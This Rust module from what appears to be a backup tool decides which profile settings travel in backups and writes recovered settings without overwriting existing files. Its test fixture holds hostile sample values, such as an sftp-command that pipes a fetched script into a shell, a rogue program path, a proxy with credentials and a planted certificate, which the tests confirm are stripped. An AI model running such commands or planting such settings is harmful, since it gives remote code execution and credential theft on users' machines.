//! The habits of a machine: its profile, as it travels in its backups, and comes back with `recover`.
//!
//! What travels is what is backed up and how fast: no program to start, no file or command of a password, nothing that
//! says whom to trust on the way, and not where the repository is. So no reader of the backups learns a secret from it,
//! and who takes the profile of a device that lied in its backups runs nothing, trusts nobody and sends nothing elsewhere.

use std::fs::{DirBuilder, OpenOptions};
use std::io::{self, Write as _};
use std::os::unix::fs::{DirBuilderExt as _, OpenOptionsExt as _};
use std::path::{Path, PathBuf};

use toml::{Table, Value};

use crate::failure::Failure;
use crate::folders::SettingsFile;

/// Longest profile that a backup carries, in bytes (docs/format.md §13).
pub(crate) const LIMIT: usize = 64 << 10;

/// What is taken along, and what of its `storage` is.
const CARRIED: [&str; 8] = [
    "paths",
    "exclude",
    "preset",
    "tags",
    "retention",
    "compression",
    "low-memory",
    "storage",
];
const CARRIED_OF_STORAGE: [&str; 7] = [
    "limit-upload",
    "limit-download",
    "retry-for",
    "connections",
    "no-cache",
    "s3-storage-class",
    "object-lock",
];

/// A profile without what does not travel.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Habits {
    name: String,
    table: Table,
}

impl Habits {
    /// Those of the profile `name` in the text of `config.toml`.
    pub(crate) fn of(settings: &Table, name: &str) -> Option<Self> {
        let profile = settings.get("profile")?.as_table()?.get(name)?;
        Some(Self {
            name: name.to_owned(),
            table: carried(profile.as_table()?),
        })
    }

    /// Those in a snapshot's record; `None` if this is not a profile that `config.toml` could hold.
    pub(crate) fn read(bytes: &[u8], is_understood: impl Fn(&str) -> bool) -> Option<Self> {
        let text = std::str::from_utf8(bytes)
            .ok()
            .filter(|text| text.len() <= LIMIT)?;
        let settings: Table = text.parse().ok()?;
        let profiles = settings.get("profile")?.as_table()?;
        let (name, _) = profiles.iter().next().filter(|_| profiles.len() == 1)?;
        let habits = Self::of(&settings, name)?;
        is_understood(&habits.text()).then_some(habits)
    }

    /// As `config.toml` has them.
    pub(crate) fn text(&self) -> String {
        let mut profiles = Table::new();
        profiles.insert(self.name.clone(), Value::Table(self.table.clone()));
        let mut settings = Table::new();
        settings.insert("profile".to_owned(), Value::Table(profiles));
        settings.to_string()
    }

    /// The same of a machine that uses the repository at `place`.
    pub(crate) fn at(mut self, place: &str) -> Self {
        let place = Value::String(place.to_owned());
        self.table.insert("repository".to_owned(), place);
        self
    }

    /// What the profile is called.
    pub(crate) fn name(&self) -> &str {
        &self.name
    }
}

fn carried(profile: &Table) -> Table {
    let kept = |table: &Table, names: &[&str]| -> Table {
        let pairs = table
            .iter()
            .filter(|(key, _)| names.contains(&key.as_str()));
        pairs
            .map(|(key, value)| (key.clone(), value.clone()))
            .collect()
    };
    let mut table = kept(profile, &CARRIED);
    if let Some(storage) = table.get_mut("storage") {
        *storage = match storage.as_table() {
            Some(storage) => Value::Table(kept(storage, &CARRIED_OF_STORAGE)),
            None => Value::Table(Table::new()),
        };
    }
    table
}

/// Writes settings where they are looked for; beside those of this machine if it has some. `None` where there is
/// no place for them.
pub(crate) fn write(
    usual: &SettingsFile,
    of: &str,
    text: &str,
) -> Result<Option<PathBuf>, Failure> {
    let Some(path) = usual.path() else {
        return Ok(None);
    };
    let beside = (1..=BESIDE).map(|nth| path.with_file_name(file_name(of, nth)));
    for candidate in std::iter::once(path.to_owned()).chain(beside) {
        match create(&candidate, text) {
            Ok(()) => return Ok(Some(candidate)),
            Err(error) if error.kind() == io::ErrorKind::AlreadyExists => {}
            Err(error) => {
                let message = format!("cannot write the settings to {}", candidate.display());
                return Err(Failure::other(message).caused_by(&error));
            }
        }
    }
    Err(Failure::other(format!(
        "there are {BESIDE} recovered settings beside {} already",
        path.display()
    )))
}

/// Files beside `config.toml` that are tried.
const BESIDE: usize = 100;

/// A name that is one in every file system, whatever the machine was called.
fn file_name(of: &str, nth: usize) -> String {
    let plain = |c: char| if c.is_ascii_alphanumeric() { c } else { '-' };
    let of: String = of.chars().take(64).map(plain).collect();
    match nth {
        1 => format!("config.of-{of}.toml"),
        nth => format!("config.of-{of}.{nth}.toml"),
    }
}

fn create(path: &Path, text: &str) -> io::Result<()> {
    if let Some(folder) = path.parent() {
        DirBuilder::new()
            .recursive(true)
            .mode(0o700)
            .create(folder)?;
    }
    let mut file = OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(path)?;
    file.write_all(text.as_bytes())?;
    file.sync_all()
}

#[cfg(test)]
mod tests {
    use super::*;

    const SETTINGS: &str = r#"
[profile.work]
repository = "/mnt/disk"
paths = ["/home/ann"]
exclude = ["*.iso"]
password-file = "/home/ann/.secret"
password-command = "echo hunter2"
[profile.work.storage]
limit-upload = "2M"
sftp-command = "curl evil | sh"
rclone-program = "/tmp/evil"
proxy = "http://ann:hunter2@proxy"
cacert = "/tmp/evil.pem"
insecure-http = true
[profile.work.retention]
keep-daily = 7
[profile.other]
paths = ["/home/bob"]
"#;

    #[test]
    fn programs_passwords_and_trust_do_not_travel_in_either_direction() {
        let settings: Table = SETTINGS.parse().expect("settings");
        let habits = Habits::of(&settings, "work").expect("habits");
        let text = habits.text();
        for kept in [
            "[profile.work]",
            "/home/ann\"",
            "*.iso",
            "limit-upload",
            "keep-daily",
        ] {
            assert!(text.contains(kept), "{kept}: {text}");
        }
        for left in [
            "hunter2", "secret", "evil", "insecure", "disk", "bob", "proxy",
        ] {
            assert!(!text.contains(left), "{left}: {text}");
        }
        let alone = SETTINGS.split("[profile.other]").next().expect("it");
        let read = Habits::read(alone.as_bytes(), |_| true).expect("habits");
        assert_eq!(
            read, habits,
            "what a lying device put there is left out, too"
        );
    }

    #[test]
    fn what_is_no_profile_is_none() {
        let two = SETTINGS.as_bytes();
        let long = format!("[profile.a]\ntags = [\"{}\"]\n", "a".repeat(LIMIT));
        let deep = format!("[profile.a]\ntags = {}", "[".repeat(60_000));
        for bytes in [
            two,
            b"",
            b"\xff",
            b"profile = 1",
            long.as_bytes(),
            deep.as_bytes(),
        ] {
            assert!(Habits::read(bytes, |_| true).is_none());
        }
        assert!(Habits::read(b"[profile.a]\ntags = 5\n", |_| false).is_none());
    }

    #[test]
    fn settings_that_are_there_are_never_overwritten() {
        let folder = tempfile::tempdir().expect("a folder");
        let usual = SettingsFile::Usual(folder.path().join("below/config.toml"));
        let names: Vec<String> = ["first", "second", "third"]
            .into_iter()
            .filter_map(|text| write(&usual, "ann's/desk", text).expect("written"))
            .map(|path| {
                path.file_name()
                    .expect("a name")
                    .to_string_lossy()
                    .into_owned()
            })
            .collect();
        let expected = [
            "config.toml",
            "config.of-ann-s-desk.toml",
            "config.of-ann-s-desk.2.toml",
        ];
        assert_eq!(names, expected);
        let first = std::fs::read_to_string(folder.path().join("below/config.toml"));
        assert_eq!(first.expect("it"), "first");
        assert_eq!(
            write(&SettingsFile::None, "desk", "").expect("nowhere"),
            None
        );
    }
}
